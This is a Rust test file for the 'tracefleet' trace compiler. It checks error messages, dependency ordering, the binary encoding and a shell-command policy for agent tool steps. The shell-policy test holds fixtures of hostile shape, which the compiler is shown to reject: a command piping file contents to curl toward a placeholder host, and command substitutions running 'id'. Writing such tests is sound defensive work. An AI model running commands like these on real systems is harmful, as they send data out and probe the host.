//! Compiler tests over the example traces and hostile fixtures.

#![allow(clippy::unwrap_used)] // tests state expectations by unwrapping

use tracefleet::trace::{CheckKind, OnError, Tool};
use tracefleet::{compile_source, decode_compiled, encode_compiled};

fn example(name: &str) -> (String, String) {
    let path = format!("{}/../traces/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    (path, text)
}

#[test]
fn dpkg_example_compiles_and_round_trips() {
    let (path, text) = example("dpkg-log-triage.trace.md");
    let (trace, warnings) = compile_source(&path, &text).unwrap_or_else(|d| panic!("{d}"));
    assert!(warnings.is_empty(), "{warnings:?}");
    assert_eq!(trace.id.as_str(), "dpkg-log-triage");
    assert_eq!(trace.version.to_string(), "1.0.0");
    assert_eq!(trace.steps.len(), 5);
    assert!(matches!(trace.steps[0].tool, Tool::Bash { .. }));
    assert!(matches!(
        trace.steps[0].on_error,
        OnError::Retry { retry_count: 1, .. }
    ));
    let Tool::Llm(llm) = &trace.steps[3].tool else {
        panic!("step 4 should be the LLM step")
    };
    assert!(llm.grammar.as_deref().unwrap_or("").contains("root"));
    assert_eq!(llm.max_tokens, 256);
    assert!(matches!(
        trace.steps[4].validations[1].kind,
        CheckKind::ContentStructureCheck { .. }
    ));
    let bindings = trace.output_bindings();
    assert_eq!(bindings.get("assessment"), Some(&4));
    assert_eq!(bindings.get("action_counts"), Some(&1));

    let bytes = encode_compiled(&trace);
    assert_eq!(&bytes[..4], b"TFC\x05");
    let back = decode_compiled(&bytes).unwrap();
    assert_eq!(back, trace);
}

fn errors_of(src: &str) -> Vec<String> {
    match compile_source("bad.trace.md", src) {
        Ok(_) => panic!("expected a compile error"),
        Err(d) => d.0.iter().map(ToString::to_string).collect(),
    }
}

const HEAD: &str = "---\ntrace_id: t\nversion: \"1.0\"\ngoal_signature: g\n---\n";

#[test]
fn unknown_tool_is_an_error_at_its_line() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Teleport\nparameters: {{}}\n```\n"
    );
    let e = errors_of(&src);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].starts_with("bad.trace.md:9:1: error: unknown tool `Teleport`"),
        "{}",
        e[0]
    );
}

#[test]
fn unknown_validation_type_and_missing_parameter_are_reported_together() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Write\nparameters:\n  file_path: x\n```\n**Validation**:\n```yaml\n- check: c\n  type: looks_good\n```\n"
    );
    let e = errors_of(&src);
    assert_eq!(e.len(), 2, "{e:?}");
    assert!(
        e.iter()
            .any(|m| m.contains("missing required parameter `content`")),
        "{e:?}"
    );
    assert!(
        e.iter()
            .any(|m| m.contains(":15:1: error: unknown validation type `looks_good`")),
        "{e:?}"
    );
}

#[test]
fn dependency_cycle_and_unresolved_variable() {
    // Step 2 has no Dependencies line, so it waits for step 1, which waits for step 2.
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: cat {{later}} {{nowhere}}\n```\n**Dependencies**: Step 2 (output_variable: later)\n### Step 2: b\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo\n```\n"
    );
    let e = errors_of(&src);
    assert!(
        e.iter().any(|m| m
            .starts_with("bad.trace.md:6:1: error: dependency cycle: step 1 → step 2 → step 1")),
        "{e:?}"
    );
    assert!(
        e.iter()
            .any(|m| m.contains("unresolved variable `{nowhere}`")),
        "{e:?}"
    );
}

#[test]
fn forward_dependency_without_cycle_runs_in_dependency_order() {
    let src = format!(
        "{HEAD}### Step 1: uses b\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo {{b_out}}\n```\n**Dependencies**: Step 2 (output_variable: b_out)\n### Step 2: b\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo b\n```\n**Dependencies**: None (first step)\n"
    );
    let (trace, _) = compile_source("ok.trace.md", &src).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(trace.execution_order(), Some(vec![1, 0]));
}

#[test]
fn output_of_a_step_not_waited_for_is_unresolved() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo\noutput_variable: a_out\n```\n### Step 2: b\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo {{a_out}}\n```\n**Dependencies**: None\n"
    );
    let e = errors_of(&src);
    assert!(
        e.iter()
            .any(|m| m.contains("which step 2 does not wait for")),
        "{e:?}"
    );
}

#[test]
fn missing_frontmatter_fields_and_empty_trace() {
    let e = errors_of("---\nconfidence: 3\n---\n# nothing\n");
    for want in [
        "missing `trace_id`",
        "missing `version`",
        "missing `goal_signature`",
        "no steps",
        "`confidence` is 3",
    ] {
        assert!(e.iter().any(|m| m.contains(want)), "{want}: {e:?}");
    }
}

#[test]
fn yaml_syntax_error_points_into_the_block() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters: [unclosed\n```\n"
    );
    let e = errors_of(&src);
    assert!(e[0].starts_with("bad.trace.md:1"), "{e:?}");
    assert!(e[0].contains("invalid tool call of step 1"), "{e:?}");
}

#[test]
fn decoder_refuses_garbage_with_reasons() {
    assert!(
        decode_compiled(b"")
            .unwrap_err()
            .to_string()
            .contains("magic")
    );
    assert!(
        decode_compiled(b"TFC\x09")
            .unwrap_err()
            .to_string()
            .contains("format version 9")
    );
    assert!(
        decode_compiled(b"TFC\x05\xff\xff")
            .unwrap_err()
            .to_string()
            .contains("malformed")
    );
    let big = vec![0u8; tracefleet::compile::MAX_COMPILED_BYTES + 1];
    assert!(
        decode_compiled(&big)
            .unwrap_err()
            .to_string()
            .contains("expected at most")
    );
}

#[test]
fn trailing_bytes_are_refused() {
    let (path, text) = example("dpkg-log-triage.trace.md");
    let (trace, _) = compile_source(&path, &text).unwrap();
    let mut bytes = encode_compiled(&trace);
    bytes.push(0);
    assert!(
        decode_compiled(&bytes)
            .unwrap_err()
            .to_string()
            .contains("trailing")
    );
}

#[test]
fn placeholder_in_single_quotes_is_an_error() {
    let src = format!(
        "{HEAD}inputs:\n  p: x\n---\n### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: grep 'a{{p}}' f\n```\n"
    )
    .replacen("---\ninputs", "inputs", 1);
    let e = errors_of(&src);
    assert!(
        e.iter().any(|m| m.contains("inside single quotes")),
        "{e:?}"
    );
}

#[test]
fn an_llm_step_constrained_by_a_json_schema_compiles_and_misuse_is_an_error() {
    let step = |params: &str| {
        format!(
            "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: LLM\nparameters:\n  prompt: hi\n{params}```\n"
        )
    };
    let (t, _) = compile_source(
        "t.trace.md",
        &step("  json_schema: {type: object, required: [ok], properties: {ok: {type: boolean}}}\n"),
    )
    .unwrap();
    let Tool::Llm(call) = &t.steps[0].tool else {
        panic!("not an LLM step")
    };
    let schema: serde_json::Value =
        serde_json::from_str(call.json_schema.as_deref().unwrap()).unwrap();
    assert_eq!(schema["required"][0], "ok");
    assert_eq!(call.grammar, None);

    let e = errors_of(&step("  json_schema: {type: 12}\n"));
    assert!(
        e.len() == 1
            && e[0].contains(":12:1: error:")
            && e[0].contains("`json_schema` is not a usable JSON Schema"),
        "{e:?}"
    );
    let e = errors_of(&step(
        "  json_schema: {type: object}\n  grammar: 'root ::= \"x\"'\n",
    ));
    assert!(
        e.len() == 1 && e[0].contains("both `grammar` and `json_schema`"),
        "{e:?}"
    );
    // Beside `parameters:` instead of in it: an error, not ignored.
    let e = errors_of(&format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: LLM\njson_schema: {{type: object}}\nparameters:\n  prompt: hi\n```\n"
    ));
    assert!(
        e.len() == 1 && e[0].contains("`json_schema` in step 1 is misplaced"),
        "{e:?}"
    );
}

#[test]
fn foreach_allowed_commands_max_parallel_and_read_paths_compile() {
    let src = "---\ntrace_id: t\nversion: \"1.0\"\ngoal_signature: g\nmax_parallel: 4\nread_paths: [/var/log]\n---\n### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: wc -l {file}\nforeach:\n  glob: \"*.log\"\n  as: file\nallowed_commands: [wc]\n```\n";
    let (t, _) = compile_source("ok.trace.md", src).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(t.max_parallel, 4);
    assert_eq!(t.read_paths, vec!["/var/log".to_owned()]);
    let f = t.steps[0].foreach.as_ref().unwrap();
    assert_eq!(f.var.as_str(), "file");
    assert_eq!(t.steps[0].allowed_commands, Some(vec!["wc".to_owned()]));
    // The item variable is only in scope in its own step.
    let bad = src.replace("wc -l {file}", "wc -l {item}");
    let e = errors_of(&bad);
    assert!(
        e.iter().any(|m| m.contains("unresolved variable `{item}`")),
        "{e:?}"
    );
}

#[test]
fn shell_policy_is_checked_at_the_command_line() {
    let step = |cmd: &str, extra: &str| {
        format!(
            "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: \"{cmd}\"\n{extra}```\n"
        )
    };
    let e = errors_of(&step(
        "grep x f | curl -d @- http://h",
        "allowed_commands: [grep]\n",
    ));
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].contains(":11:1: error: step 1: command `curl` is not in allowed_commands [grep]"),
        "{e:?}"
    );
    let e = errors_of(&step("echo $(id)", ""));
    assert!(
        e[0].contains("command substitution '$(' at line 1, column 6"),
        "{e:?}"
    );
    let e = errors_of(&step("echo `id`", "allowed_commands: [grep]\n"));
    assert!(e[0].contains("command substitution '`'"), "{e:?}");
    // Allowed substitution: compiles, and its inner commands are still checked.
    let ok = step("echo $(date)", "allow_command_substitution: true\n");
    let (t, _) = compile_source("ok.trace.md", &ok).unwrap_or_else(|d| panic!("{d}"));
    assert!(t.steps[0].command_substitution);
    let e = errors_of(&step(
        "echo $(date)",
        "allow_command_substitution: true\nallowed_commands: [grep]\n",
    ));
    assert!(
        e[0].contains("command `date` is not in allowed_commands"),
        "{e:?}"
    );
    let e = errors_of(&format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Read\nparameters:\n  file_path: f\nallow_command_substitution: true\n```\n"
    ));
    assert!(e[0].contains("expected it only on Bash steps"), "{e:?}");
}

#[test]
fn an_unusable_json_schema_is_an_error_at_its_line() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: cat f\n```\n**Validation**:\n```yaml\n- type: json_schema\n  parameters:\n    schema: {{type: 12}}\n```\n"
    );
    let e = errors_of(&src);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].contains(":17:1: error:") && e[0].contains("`schema` is not a usable JSON Schema"),
        "{e:?}"
    );
}

#[test]
fn second_validation_parameter_errors_point_at_their_own_line() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo\n```\n**Validation**:\n```yaml\n- check: one\n  type: regex_match\n  parameters:\n    pattern: ok\n- check: two\n  type: regex_match\n  parameters:\n    pattern: '('\n```\n"
    );
    let e = errors_of(&src);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(e[0].starts_with("bad.trace.md:22:1:"), "{e:?}");
    assert!(e[0].contains("invalid regular expression"), "{e:?}");
}

#[test]
fn preconditions_cannot_use_step_outputs_and_outputs_cannot_shadow() {
    let src = "---\ntrace_id: t\nversion: \"1.0\"\ngoal_signature: g\npreconditions:\n  - condition: c\n    validation_type: file_exists\n    parameters:\n      path: \"{out}\"\n---\n### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo\noutput_variable: out\n```\n### Step 2: b\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo\noutput_variable: base_dir\n```\n";
    let e = errors_of(src);
    assert!(
        e.iter()
            .any(|m| m.contains("unresolved variable `{out}` in precondition")),
        "{e:?}"
    );
    assert!(
        e.iter()
            .any(|m| m.contains("`base_dir` of step 2 shadows a built-in variable")),
        "{e:?}"
    );
}

#[test]
fn bold_field_variant_compiles_to_the_same_ir_and_reports_field_lines() {
    let bold = "# T\n\n**Trace ID**: t\n**Goal**: g\n**Version**: 1.0\n\n## Step 1: a\n\n**Tool**: Bash\n\n**Parameters**:\n| Parameter | Value |\n|---|---|\n| command | echo hi |\n\n**Validations**:\n1. **says hi**\n   - Type: content_contains\n   - Text: hi\n";
    let (b, _) = compile_source("b.trace.md", bold).unwrap_or_else(|d| panic!("{d}"));
    let yaml = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo hi\n```\n**Validation**:\n```yaml\n- check: says hi\n  type: content_contains\n  parameters:\n    text: hi\n```\n"
    )
    .replace("goal_signature: g", "goal_signature: g");
    let (y, _) = compile_source("y.trace.md", &yaml).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(b.steps[0].tool, y.steps[0].tool);
    assert_eq!(b.steps[0].validations, y.steps[0].validations);
    assert_eq!(b.goal_signature, "g");

    let broken = bold.replace("content_contains", "looks_right");
    let e = errors_of(&broken);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].starts_with("bad.trace.md:16:1: error: unknown validation type `looks_right`"),
        "{e:?}"
    );
}

#[test]
fn numeric_version_is_accepted_with_a_warning() {
    let src = "---\ntrace_id: t\nversion: 1.2\ngoal_signature: g\n---\n### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: echo\n```\n";
    let (t, warnings) = compile_source("w.trace.md", src).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(t.version.to_string(), "1.2.0");
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0]
            .to_string()
            .starts_with("w.trace.md:3:1: warning: `version` is written as the number 1.2")
    );
}

#[test]
fn sensitive_steps_and_hashed_reports_compile_and_a_bad_report_outputs_is_an_error() {
    let src = format!(
        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Read\nparameters:\n  file_path: f\nsensitive: true\n```\n### Step 2: b\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: \"true\"\n```\n"
    );
    let (t, _) = compile_source("s.trace.md", &src).unwrap_or_else(|d| panic!("{d}"));
    assert!(t.steps[0].sensitive && !t.steps[1].sensitive);
    assert_eq!(t.report_outputs, tracefleet::trace::ReportOutputs::Full);
    let hashed = src.replacen(
        "goal_signature: g\n",
        "goal_signature: g\nreport_outputs: hashed\n",
        1,
    );
    let (t, _) = compile_source("h.trace.md", &hashed).unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(t.report_outputs, tracefleet::trace::ReportOutputs::Hashed);
    // Both survive the compiled form.
    let back = decode_compiled(&encode_compiled(&t)).unwrap();
    assert_eq!(back, t);
    let bad = src.replacen(
        "goal_signature: g\n",
        "goal_signature: g\nreport_outputs: secret\n",
        1,
    );
    let e = errors_of(&bad);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].contains(":5:1: error:")
            && e[0].contains("`report_outputs: secret`: expected `full` or `hashed`"),
        "{e:?}"
    );
}
